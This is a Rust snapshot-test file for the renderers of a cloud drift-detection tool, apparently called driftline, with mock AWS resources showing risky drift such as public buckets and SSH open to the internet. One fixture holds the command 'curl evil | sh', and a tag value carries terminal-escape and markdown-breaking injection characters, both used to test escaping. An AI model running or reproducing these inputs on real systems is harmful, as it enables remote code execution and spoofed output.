//! One plan with a bit of everything, and how each renderer shows it.

mod ignored;

use driftline_api::{Cause, Scope, Seal, Status, Under};
use insta::assert_snapshot;
use serde_json::{Value, json};

use super::{CoverageRow, Look, coverage, json as to_json, line, markdown, text};
use crate::Resource;
use crate::diff::sample::{address, descriptor, resource};
use crate::plan::{Against, Builder, Ignore, NotRead, Plan, Scanned, Side};

const GROUP: &str = "aws/123456789012/eu-west-1/ec2/security_group/sg-0a1b2c";
const BUCKET: &str = "aws/123456789012/eu-west-1/s3/bucket/acme-logs";
const RECORD: &str = "aws/123456789012/global/route53/record_set/Z0123/www.example.com/A";
const DB: &str = "aws/123456789012/eu-west-1/rds/db_instance/prod-orders";

fn against() -> Against {
    Against { rev: "HEAD".to_owned(), commit: "3f9c1e2a7b8d4c5e6f708192a3b4c5d6e7f80912".to_owned() }
}

fn gap(region: &str, kind: &str, status: Status, operation: &str, code: &str) -> NotRead {
    NotRead {
        side: Side::Live,
        scope: Scope { provider: "aws".to_owned(), account: "123456789012".to_owned(), region: region.to_owned() },
        kind: kind.to_owned(),
        under: Under::Kind,
        path: None,
        cause: Cause {
            status,
            operation: operation.to_owned(),
            code: code.to_owned(),
            message: "request 8f1c failed".to_owned(),
        },
    }
}

fn plan_of(sides: Vec<(&str, Option<Resource>, Option<Resource>)>, not_read: Vec<NotRead>, ignores: &[Ignore]) -> Plan {
    let mut builder = Builder::new(against(), not_read, ignores);
    for (at, before, after) in sides {
        let address = address(at);
        builder.compare(descriptor(&address.kind), &address, before, after);
    }
    builder.finish(Scanned { accounts: 1, scopes: 3, kinds: 4, resources: 120, calls: 77, retries: 2, narrowed: false })
}

fn changed(at: &str, before: Value, after: Value) -> Plan {
    plan_of(vec![(at, Some(resource(at, before, &[])), Some(resource(at, after, &[])))], vec![], &[])
}

fn security_group() -> (Resource, Resource) {
    let https = json!({"FromPort": 443, "IpProtocol": "tcp", "IpRanges": [{"CidrIp": "0.0.0.0/0"}, {"CidrIp": "10.0.0.0/8", "Description": "office"}], "ToPort": 443});
    let ssh = json!({"FromPort": 22, "IpProtocol": "tcp", "IpRanges": [{"CidrIp": "0.0.0.0/0"}], "ToPort": 22});
    let mut https_after = https.clone();
    https_after["IpRanges"] =
        json!([{"CidrIp": "0.0.0.0/0"}, {"CidrIp": "10.0.0.0/8", "Description": "home"}, {"CidrIp": "192.168.0.0/16"}]);
    (
        resource(
            GROUP,
            json!({"Description": "old", "GroupName": "prod-app", "IpPermissions": [https]}),
            &[("Owner", "bob"), ("Team", "platform")],
        ),
        resource(
            GROUP,
            json!({"Description": "new", "GroupName": "prod-app", "IpPermissions": [ssh, https_after]}),
            &[("Team", "platform")],
        ),
    )
}

fn policy(statement: &Value) -> Value {
    let tls = json!({"Sid": "Tls", "Effect": "Deny", "Principal": "*", "Action": "s3:*", "Resource": "*"});
    json!({"Version": "2012-10-17", "Statement": [statement, tls]})
}

fn bucket() -> (Resource, Resource) {
    let read = |principal: Value, actions: Value| json!({"Sid": "Read", "Effect": "Allow", "Principal": principal, "Action": actions, "Resource": "arn:aws:s3:::acme-logs/*"});
    let before = policy(&read(json!({"AWS": ["arn:aws:iam::123456789012:root"]}), json!(["s3:GetObject"])));
    let after = policy(&read(json!("*"), json!(["s3:GetObject", "s3:PutObject"])));
    let side = |policy, acl| {
        let attributes = json!({"Policy": policy, "Grants": [{"Grantee": {"ID": "79a59df9", "Type": "CanonicalUser"}, "Permission": acl}]});
        resource(BUCKET, attributes, &[])
    };
    (side(before, "READ"), side(after, "FULL_CONTROL"))
}

fn db() -> (Resource, Resource) {
    let seal = Seal::new([7; 32]);
    let side = |public: bool, password: &str, groups: Value| {
        let attributes = json!({
            "DBInstanceClass": "db.m6g.large", "MasterUserPassword": seal.seal(password), "PubliclyAccessible": public,
            "VpcSecurityGroups": groups, "PreferredMaintenanceWindow": "sun:03:00-sun:04:00",
        });
        resource(DB, attributes, &[])
    };
    (
        side(false, "hunter2", json!([{"VpcSecurityGroupId": "sg-1"}])),
        side(true, "hunter3", json!([{"VpcSecurityGroupId": "sg-0a1b2c"}])),
    )
}

/// What an evil tag can do.
const EVIL: &str = "\u{1b}[2J```\n</details>\u{202e}|";

fn everything() -> Plan {
    let mut plan = with_ignored();
    plan.forget_ignored();
    plan
}

fn with_ignored() -> Plan {
    let (group, bucket, db) = (security_group(), bucket(), db());
    let record = resource(
        RECORD,
        json!({"Name": "www.example.com.", "Type": "A", "TTL": 300, "ResourceRecords": [{"Value": "192.0.2.1"}]}),
        &[],
    );
    let unmanaged = "aws/123456789012/eu-west-1/s3/bucket/scratch";
    let grants: Vec<Value> =
        (0..6).map(|n| json!({"Grantee": {"ID": n, "Type": "CanonicalUser"}, "Permission": "READ"})).collect();
    let scratch = resource(
        unmanaged,
        json!({"Encryption": {"Rules": []}, "Grants": grants, "Versioning": null, "Location": "eu-west-1", "CORSRules": []}),
        &[("Name", EVIL)],
    );
    let ignores = [
        Ignore {
            attribute: Some("PreferredMaintenanceWindow".parse().expect("a pattern")),
            ..Ignore::new("rds".parse().expect("a pattern"), "AWS moves it")
        },
        Ignore {
            attribute: Some("VpcSecurityGroups".parse().expect("a pattern")),
            ..Ignore::new("rds".parse().expect("a pattern"), "the operator's")
        },
    ];
    let mut policy = gap("eu-west-1", "s3/bucket", Status::Denied, "s3:GetBucketPolicy", "AccessDenied");
    (policy.under, policy.path) = (Under::Id("vault".to_owned()), Some("/Policy".to_owned()));
    let mut zone =
        gap("global", "route53/record_set", Status::Throttled, "route53:ListResourceRecordSets", "Throttling");
    zone.under = Under::Parent("Z9".to_owned());
    let mut old = gap("eu-west-1", "ec2/vpc", Status::Failed, "ec2:DescribeVpcs", "timeout");
    old.side = Side::RestorePoint;
    let not_read = vec![
        gap("us-east-1", "rds/db_cluster", Status::Denied, "rds:DescribeDBClusters", "AccessDenied"),
        gap("eu-west-1", "rds/db_cluster", Status::Denied, "rds:DescribeDBClusters", "AccessDenied"),
        gap("eu-west-1", "elbv2/listener", Status::Failed, "elbv2:DescribeListeners", "timeout"),
        gap("eu-west-1", "ec2/vpc", Status::Excluded, "", ""),
        policy,
        zone,
        old,
    ];
    plan_of(
        vec![
            (RECORD, Some(record), None),
            (unmanaged, None, Some(scratch)),
            (GROUP, Some(group.0), Some(group.1)),
            (BUCKET, Some(bucket.0), Some(bucket.1)),
            (DB, Some(db.0), Some(db.1)),
        ],
        not_read,
        &ignores,
    )
}

fn shown(plan: &Plan) -> String {
    let mut out = Vec::new();
    text(plan, Look::default(), &mut out).expect("a Vec takes everything");
    String::from_utf8(out).expect("UTF-8")
}

#[test]
fn text_tells_what_where_old_and_new() {
    assert_snapshot!(shown(&everything()), @r#"
      ~ aws/123456789012/eu-west-1/ec2/security_group/sg-0a1b2c  "prod-app"
          ~ Description: "old" -> "new"
          + IpPermissions[tcp 22]:
          +   { FromPort: 22, IpProtocol: "tcp", IpRanges: [{ CidrIp: "0.0.0.0/0" }], ToPort: 22 }
          ~ IpPermissions[tcp 443].IpRanges[10.0.0.0/8].Description: "office" -> "home"
          + IpPermissions[tcp 443].IpRanges[192.168.0.0/16]
          - tags.Owner:  "bob"

      ~ aws/123456789012/eu-west-1/rds/db_instance/prod-orders
          ~ MasterUserPassword: (secret changed)
          ~ PubliclyAccessible: false -> true

      ~ aws/123456789012/eu-west-1/s3/bucket/acme-logs
          ~ Grants[]:
              Grantee:    { ID: "79a59df9", Type: "CanonicalUser" }
          ~   Permission: "READ" -> "FULL_CONTROL"
          ~ Policy.Statement[Read]:
              Action:    ["s3:GetObject"]
          +   Action[s3:PutObject]
              Effect:    "Allow"
          ~   Principal: { AWS: ["arn:aws:iam::123456789012:root"] } -> "*"
              Resource:  "arn:aws:s3:::acme-logs/*"

      + aws/123456789012/eu-west-1/s3/bucket/scratch  "\u{1b}[2J```\n</details>\u{202e}|"  unmanaged: in no restore point
          + Encryption: { Rules: [] }
          + Grants:     [ 6 elements ]
          + Location:   "eu-west-1"
          + tags.Name:  "\u{1b}[2J```\n</details>\u{202e}|"

      - aws/123456789012/global/route53/record_set/Z0123/www.example.com/A  removed: no longer there
          - Name:            "www.example.com."
          - ResourceRecords: [{ Value: "192.0.2.1" }]
          - TTL:             300
          - Type:            "A"

    Not read (5 gaps): nothing there is compared or taken for removed.
      denied     rds:DescribeDBClusters (AccessDenied)
                 rds/db_cluster in aws/123456789012: eu-west-1, us-east-1
                 hint: allow rds:DescribeDBClusters (`driftline iam-policy` prints all that it takes)
      denied     s3:GetBucketPolicy (AccessDenied)
                 /Policy of aws/123456789012/eu-west-1/s3/bucket/vault
                 hint: allow s3:GetBucketPolicy (`driftline iam-policy` prints all that it takes)
      throttled  route53:ListResourceRecordSets (Throttling)
                 aws/123456789012/global/route53/record_set/Z9/*
                 hint: plan again later, or with a lower --max-rps
      failed     elbv2:DescribeListeners (timeout)
                 request 8f1c failed
                 elbv2/listener in aws/123456789012: eu-west-1
      failed     ec2:DescribeVpcs (timeout) when the restore point was made
                 request 8f1c failed
                 ec2/vpc in aws/123456789012: eu-west-1
                 hint: what is only live there may not be new: import once it can be read

    Plan: 1 added, 3 changed, 1 removed since HEAD (3f9c1e2a7b8d). 2 ignored by rules. Incomplete: 5 gaps were not read.
    "#);
}

#[test]
fn colours_are_there_only_if_asked_for() {
    let mut out = Vec::new();
    text(&everything(), Look { colour: true, width: 100 }, &mut out).expect("a Vec takes everything");
    let coloured = String::from_utf8(out).expect("UTF-8");
    assert!(coloured.contains("\u{1b}[32m+\u{1b}[0m"), "{coloured}");
    // Nothing but colours: a tag's own escapes are spelled out.
    assert!(!coloured.contains("\u{1b}[2J") && !coloured.contains('\u{202e}'), "{coloured}");
    assert!(!shown(&everything()).contains('\u{1b}'));
    let mut bare = String::new();
    let mut rest = coloured.as_str();
    while let Some((before, after)) = rest.split_once('\u{1b}') {
        bare.push_str(before);
        rest = &after[after.find('m').expect("a colour ends") + 1..];
    }
    bare.push_str(rest);
    assert_eq!(bare, shown(&everything()));
}

#[test]
fn no_drift_is_a_clean_bill_only_if_everything_was_read() {
    assert_snapshot!(shown(&plan_of(vec![], vec![], &[])), @"No drift. 120 resources match HEAD (3f9c1e2a7b8d).");
    let denied = gap("us-east-1", "rds/db_cluster", Status::Denied, "rds:DescribeDBClusters", "AccessDenied");
    assert_snapshot!(shown(&plan_of(vec![], vec![denied], &[])), @r"
    Not read (1 gap): nothing there is compared or taken for removed.
      denied     rds:DescribeDBClusters (AccessDenied)
                 rds/db_cluster in aws/123456789012: us-east-1
                 hint: allow rds:DescribeDBClusters (`driftline iam-policy` prints all that it takes)

    No drift in what was read: 120 resources match HEAD (3f9c1e2a7b8d). Incomplete: 1 gap was not read.
    ");
}

#[test]
fn long_values_take_several_lines() {
    let statement = |action: &str| json!({"Sid": "Deploy", "Effect": "Allow", "Action": [action, "cloudformation:DescribeStacks", "cloudformation:UpdateStack"], "Resource": "arn:aws:cloudformation:eu-west-1:123456789012:stack/production-*"});
    assert_snapshot!(shown(&changed(BUCKET, json!({"Policy": policy(&json!({"Sid": "A"}))}), json!({"Policy": {"Version": "2012-10-17", "Statement": [statement("a:b")]}}))), @r#"
      ~ aws/123456789012/eu-west-1/s3/bucket/acme-logs
          - Policy.Statement[A]
          + Policy.Statement[Deploy]: {
          +   Action:   ["a:b", "cloudformation:DescribeStacks", "cloudformation:UpdateStack"]
          +   Effect:   "Allow"
          +   Resource: "arn:aws:cloudformation:eu-west-1:123456789012:stack/production-*"
          +   Sid:      "Deploy"
          + }
          - Policy.Statement[Tls]:
          -   { Action: "s3:*", Effect: "Deny", Principal: "*", Resource: "*", Sid: "Tls" }

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
    let long =
        |n: usize| format!("https://sqs.eu-west-1.amazonaws.com/123456789012/a-queue-with-quite-a-long-name-{n}");
    assert_snapshot!(shown(&changed(BUCKET, json!({"Url": long(1), "Same": {"a": [1, 2]}}), json!({"Url": long(2), "Same": {"a": "b"}}))), @r#"
      ~ aws/123456789012/eu-west-1/s3/bucket/acme-logs
          ~ Same.a: [1, 2] -> "b"
          ~ Url:
          -   "https://sqs.eu-west-1.amazonaws.com/123456789012/a-queue-with-quite-a-long-name-1"
          +   "https://sqs.eu-west-1.amazonaws.com/123456789012/a-queue-with-quite-a-long-name-2"

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
}

#[test]
fn long_texts_show_a_hunk() {
    let script =
        |line: &str| format!("#!/bin/sh\nset -eu\n\tyum update\n{line}\nexec app\n# end\n# of file\n# really\n");
    assert_snapshot!(shown(&changed(DB, json!({"UserData": script("echo \u{1b}[31mold")}), json!({"UserData": script("curl evil | sh")}))), @r#"
      ~ aws/123456789012/eu-west-1/rds/db_instance/prod-orders
          ~ UserData:
              @@ -1,7 +1,7 @@
              #!/bin/sh
              set -eu
                  yum update
          -   echo \u{1b}[31mold
          +   curl evil | sh
              exec app
              # end
              # of file

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
}

#[test]
fn another_order_is_shown_as_such() {
    assert_snapshot!(shown(&changed(RECORD, json!({"List": ["a", "b", "c"]}), json!({"List": ["c", "a", "b"]}))), @r#"
      ~ aws/123456789012/global/route53/record_set/Z0123/www.example.com/A
          ~ List (reordered): ["a", "b", "c"] -> ["c", "a", "b"]

    Plan: 0 added, 1 changed, 0 removed since HEAD (3f9c1e2a7b8d).
    "#);
}

#[test]
fn one_line_tells_one_change() {
    let plan = everything();
    let lines: Vec<String> = plan.drift.iter().flat_map(|resource| &resource.changes).map(line).collect();
    assert_snapshot!(lines.join("\n"), @r#"
    ~ Description: "old" -> "new"
    + IpPermissions[tcp 22]: { FromPort: 22, IpProtocol: "tcp", IpRanges: [{ CidrIp: "0.0.0.0/0" }], ToPort: 22 }
    ~ IpPermissions[tcp 443].IpRanges[10.0.0.0/8].Description: "office" -> "home"
    + IpPermissions[tcp 443].IpRanges[192.168.0.0/16]
    - tags.Owner: "bob"
    ~ MasterUserPassword: (secret changed)
    ~ PubliclyAccessible: false -> true
    ~ Grants[{"Grantee":{"ID":"79a59df9","Type":"CanonicalUser"},"Permission":"READ"}].Permission: "READ" -> "FULL_CONTROL"
    + Policy.Statement[Read].Action[s3:PutObject]
    ~ Policy.Statement[Read].Principal: { AWS: ["arn:aws:iam::123456789012:root"] } -> "*"
    "#);
}

#[test]
fn markdown_keeps_values_inside_their_fence() {
    let mut out = Vec::new();
    markdown(&everything(), &mut out).expect("a Vec takes everything");
    assert_snapshot!(String::from_utf8(out).expect("UTF-8"), @r#"
    ### Drift: 1 added, 3 changed, 1 removed

    120 resources compared with <code>HEAD</code> (<code>3f9c1e2a7b8d</code>), 2 ignored by rules.

    | | Resource | Name | What |
    | --- | --- | --- | --- |
    | `~` | <code>aws/123456789012/eu-west-1/ec2/security_group/sg-0a1b2c</code> | prod-app | 5 changes |
    | `~` | <code>aws/123456789012/eu-west-1/rds/db_instance/prod-orders</code> |  | 2 changes |
    | `~` | <code>aws/123456789012/eu-west-1/s3/bucket/acme-logs</code> |  | 3 changes |
    | `+` | <code>aws/123456789012/eu-west-1/s3/bucket/scratch</code> | &#92;u{1b}&#91;2J&#96;&#96;&#96;&#92;n&lt;/details&gt;&#92;u{202e}&#124; | unmanaged: in no restore point |
    | `-` | <code>aws/123456789012/global/route53/record_set/Z0123/www.example.com/A</code> |  | removed: no longer there |

    <code>aws/123456789012/eu-west-1/ec2/security_group/sg-0a1b2c</code>

    ```diff
      aws/123456789012/eu-west-1/ec2/security_group/sg-0a1b2c
    -   Description: "old"
    +   Description: "new"
    +   IpPermissions[tcp 22]:
    +     { FromPort: 22, IpProtocol: "tcp", IpRanges: [{ CidrIp: "0.0.0.0/0" }], ToPort: 22 }
    -   IpPermissions[tcp 443].IpRanges[10.0.0.0/8].Description: "office"
    +   IpPermissions[tcp 443].IpRanges[10.0.0.0/8].Description: "home"
    +   IpPermissions[tcp 443].IpRanges[192.168.0.0/16]
    -   tags.Owner: "bob"
    ```

    <code>aws/123456789012/eu-west-1/rds/db_instance/prod-orders</code>

    ```diff
      aws/123456789012/eu-west-1/rds/db_instance/prod-orders
        MasterUserPassword: (secret changed)
    -   PubliclyAccessible: false
    +   PubliclyAccessible: true
    ```

    <code>aws/123456789012/eu-west-1/s3/bucket/acme-logs</code>

    ```diff
      aws/123456789012/eu-west-1/s3/bucket/acme-logs
        Grants[]:
          Grantee: { ID: "79a59df9", Type: "CanonicalUser" }
    -     Permission: "READ"
    +     Permission: "FULL_CONTROL"
        Policy.Statement[Read]:
          Action:   ["s3:GetObject"]
    +     Action[s3:PutObject]
          Effect:   "Allow"
    -     Principal: { AWS: ["arn:aws:iam::123456789012:root"] }
    +     Principal: "*"
          Resource: "arn:aws:s3:::acme-logs/*"
    ```

    <code>aws/123456789012/eu-west-1/s3/bucket/scratch</code>

    ````diff
    + aws/123456789012/eu-west-1/s3/bucket/scratch
    +   Encryption: { Rules: [] }
    +   Grants:     [ 6 elements ]
    +   Location:   "eu-west-1"
    +   tags.Name:  "\u{1b}[2J```\n</details>\u{202e}|"
    ````

    <code>aws/123456789012/global/route53/record_set/Z0123/www.example.com/A</code>

    ```diff
    - aws/123456789012/global/route53/record_set/Z0123/www.example.com/A
    -   Name:            "www.example.com."
    -   ResourceRecords: [{ Value: "192.0.2.1" }]
    -   TTL:             300
    -   Type:            "A"
    ```

    #### Not read (5 gaps)

    Nothing there is compared or taken for removed: this plan is incomplete.

    - **denied** <code>rds:DescribeDBClusters (AccessDenied)</code>
      - <code>rds/db_cluster in aws/123456789012: eu-west-1, us-east-1</code>
      - hint: allow rds:DescribeDBClusters (&#96;driftline iam-policy&#96; prints all that it takes)
    - **denied** <code>s3:GetBucketPolicy (AccessDenied)</code>
      - <code>/Policy of aws/123456789012/eu-west-1/s3/bucket/vault</code>
      - hint: allow s3:GetBucketPolicy (&#96;driftline iam-policy&#96; prints all that it takes)
    - **throttled** <code>route53:ListResourceRecordSets (Throttling)</code>
      - <code>aws/123456789012/global/route53/record_set/Z9/&#42;</code>
      - hint: plan again later, or with a lower --max-rps
    - **failed** <code>elbv2:DescribeListeners (timeout)</code>
      - request 8f1c failed
      - <code>elbv2/listener in aws/123456789012: eu-west-1</code>
    - **failed** <code>ec2:DescribeVpcs (timeout) when the restore point was made</code>
      - request 8f1c failed
      - <code>ec2/vpc in aws/123456789012: eu-west-1</code>
      - hint: what is only live there may not be new: import once it can be read
    "#);
}

fn written(plan: &Plan) -> String {
    let mut out = Vec::new();
    to_json(plan, &mut out).expect("a Vec takes everything");
    String::from_utf8(out).expect("UTF-8")
}

#[test]
fn json_follows_terraforms_plan_format() {
    let (before, after) = db();
    let denied = gap("us-east-1", "rds/db_cluster", Status::Denied, "rds:DescribeDBClusters", "AccessDenied");
    assert_snapshot!(written(&plan_of(vec![(DB, Some(before), Some(after))], vec![denied], &[])), @r#"
    {
      "applyable": false,
      "complete": false,
      "configuration": {
        "root_module": {}
      },
      "driftline": {
        "against": {
          "commit": "3f9c1e2a7b8d4c5e6f708192a3b4c5d6e7f80912",
          "rev": "HEAD"
        },
        "digest": "2d263efff5b06eda8e3db549d2c1a0ce676d5f53",
        "format": 1,
        "ignored": [],
        "not_read": [
          {
            "account": "123456789012",
            "code": "AccessDenied",
            "kind": "rds/db_cluster",
            "message": "request 8f1c failed",
            "operation": "rds:DescribeDBClusters",
            "provider": "aws",
            "region": "us-east-1",
            "side": "live",
            "status": "denied"
          }
        ],
        "scanned": {
          "accounts": 1,
          "calls": 77,
          "kinds": 4,
          "resources": 120,
          "retries": 2,
          "scopes": 3
        },
        "summary": {
          "added": 0,
          "changed": 1,
          "removed": 0
        }
      },
      "errored": false,
      "format_version": "1.2",
      "output_changes": {},
      "planned_values": {
        "root_module": {}
      },
      "resource_changes": [],
      "resource_drift": [
        {
          "address": "aws/123456789012/eu-west-1/rds/db_instance/prod-orders",
          "change": {
            "actions": [
              "update"
            ],
            "after": {
              "attributes": {
                "DBInstanceClass": "db.m6g.large",
                "MasterUserPassword": "sealed:3d344f0e1f919c0f43285a78da241321",
                "PreferredMaintenanceWindow": "sun:03:00-sun:04:00",
                "PubliclyAccessible": true,
                "VpcSecurityGroups": [
                  {
                    "VpcSecurityGroupId": "sg-0a1b2c"
                  }
                ]
              },
              "id": "prod-orders",
              "kind": "rds/db_instance"
            },
            "after_sensitive": {
              "attributes": {
                "MasterUserPassword": true
              }
            },
            "after_unknown": {},
            "before": {
              "attributes": {
                "DBInstanceClass": "db.m6g.large",
                "MasterUserPassword": "sealed:90935ad39fd56216526a557d198f8912",
                "PreferredMaintenanceWindow": "sun:03:00-sun:04:00",
                "PubliclyAccessible": false,
                "VpcSecurityGroups": [
                  {
                    "VpcSecurityGroupId": "sg-1"
                  }
                ]
              },
              "id": "prod-orders",
              "kind": "rds/db_instance"
            },
            "before_sensitive": {
              "attributes": {
                "MasterUserPassword": true
              }
            }
          },
          "driftline": {
            "account": "123456789012",
            "changes": [
              {
                "action": "changed",
                "after": "sealed:3d344f0e1f919c0f43285a78da241321",
                "before": "sealed:90935ad39fd56216526a557d198f8912",
                "path": "/attributes/MasterUserPassword"
              },
              {
                "action": "changed",
                "after": true,
                "before": false,
                "path": "/attributes/PubliclyAccessible"
              },
              {
                "action": "added",
                "after": {
                  "VpcSecurityGroupId": "sg-0a1b2c"
                },
                "path": "/attributes/VpcSecurityGroups/[VpcSecurityGroupId=\"sg-0a1b2c\"]"
              },
              {
                "action": "removed",
                "before": {
                  "VpcSecurityGroupId": "sg-1"
                },
                "path": "/attributes/VpcSecurityGroups/[VpcSecurityGroupId=\"sg-1\"]"
              }
            ],
            "drift": "changed",
            "kind": "rds/db_instance",
            "region": "eu-west-1"
          },
          "mode": "managed",
          "name": "prod-orders",
          "provider_name": "aws",
          "type": "rds/db_instance"
        }
      ]
    }
    "#);
}

#[test]
fn a_plan_file_reads_back_as_the_plan_it_was() {
    for plan in
        [everything(), plan_of(vec![], vec![], &[]), changed(DB, json!({"A": null}), json!({"A": 1, "B": null}))]
    {
        let file = written(&plan);
        assert_eq!(Plan::from_json(file.as_bytes()).expect("a plan"), plan);
        assert_eq!(written(&Plan::from_json(file.as_bytes()).expect("a plan")), file);
    }
}

#[test]
fn what_is_no_plan_file_is_refused_with_the_way_out() {
    let file = written(&everything());
    let refused = |text: &str| Plan::from_json(text.as_bytes()).expect_err("no plan").to_string();
    assert_snapshot!(refused("{"), @"the plan file is not JSON: EOF while parsing an object at line 1 column 1");
    assert_snapshot!(refused("{}"), @"the file is no plan of driftline: it has no `format_version`");
    assert_snapshot!(refused(r#"{"format_version": "1.2", "terraform_version": "1.11.4"}"#), @"the file is no plan of driftline: it has no `driftline`");
    assert_snapshot!(refused(&file.replace(r#""format_version": "1.2""#, r#""format_version": "2.0""#)), @"the plan file has format version 2.0, and this driftline reads 1.2; make the plan anew, or update driftline");
    assert_snapshot!(refused(&file.replace(r#""format": 1"#, r#""format": 2"#)), @"the plan file has driftline format 2, and this driftline reads 1; make the plan anew, or update driftline");
    assert_snapshot!(refused(&file.replace(r#""action": "added""#, r#""action": "lost""#)), @"the plan file is damaged at `resource_drift[0].driftline.changes[1].action`: `lost` does not fit `before` and `after`; make the plan anew");
    assert_snapshot!(refused(&file.replace("/attributes/Description", "attributes")), @"the plan file is damaged at `resource_drift[0].driftline.changes[0].path`: `attributes` is not an attribute path: each step begins with `/`; make the plan anew");
    assert_snapshot!(refused(&file.replace(r#""commit""#, r#""comit""#)), @"the plan file is damaged at `driftline.against`: missing field `commit`; make the plan anew");
    assert_snapshot!(refused(&file.replace("AWS moves it", "nobody moves it")), @"the plan file was edited after it was made; --only and --except choose what is accepted");
    assert_snapshot!(refused(&file.replace(DB, "nowhere")), @"the plan file is damaged at `resource_drift[1].address`: `nowhere` is not an address: expected `aws/<account>/<region or global>/<service>/<resource>/<id>`; make the plan anew");
}

fn row(region: &str, kind: &str, status: Status, resources: usize, gaps: usize) -> CoverageRow {
    let scope = Scope { provider: "aws".to_owned(), account: "123456789012".to_owned(), region: region.to_owned() };
    CoverageRow { scope, kind: kind.to_owned(), status, resources, gaps, is_gap: status.is_gap() }
}

fn table(rows: &[CoverageRow], width: usize) -> String {
    let mut out = Vec::new();
    coverage(rows, Look { colour: false, width }, &mut out).expect("a Vec takes everything");
    String::from_utf8(out).expect("UTF-8")
}

#[test]
fn coverage_is_a_table_while_it_fits() {
    let rows = [
        row("eu-west-1", "s3/bucket", Status::Read, 12, 2),
        row("us-east-1", "s3/bucket", Status::Read, 0, 0),
        row("eu-west-1", "rds/db_instance", Status::Denied, 4, 0),
        row("us-east-1", "rds/db_instance", Status::Read, 3, 0),
        row("eu-west-1", "rds/global_cluster", Status::Unsupported, 0, 0),
        row("us-east-1", "rds/global_cluster", Status::Excluded, 0, 0),
        row("global", "iam/role", Status::Read, 31, 0),
    ];
    assert_snapshot!(table(&rows, 100), @r"
    aws/123456789012
                          eu-west-1  global  us-east-1
      iam/role                           31
      rds/db_instance             D                  3
      rds/global_cluster          -                  x
      s3/bucket                 12*                  0

    number: resources read   *: parts of them not read   -: does not exist there   D: denied
    x: excluded by configuration
    50 resources in 1 account; not read: 1 of 7 lists, 2 parts of others.
    ");
    assert_snapshot!(table(&rows, 40), @r"
    aws/123456789012
      iam/role            31 in 1 region
      rds/db_instance     3 in 1 region; denied in eu-west-1
      rds/global_cluster  unsupported in 1 region; excluded in 1 region
      s3/bucket           12* (2 parts not read) in 2 regions

    number: resources read
    *: parts of them not read
    -: does not exist there   D: denied
    x: excluded by configuration
    50 resources in 1 account; not read: 1 of 7 lists, 2 parts of others.
    ");
}
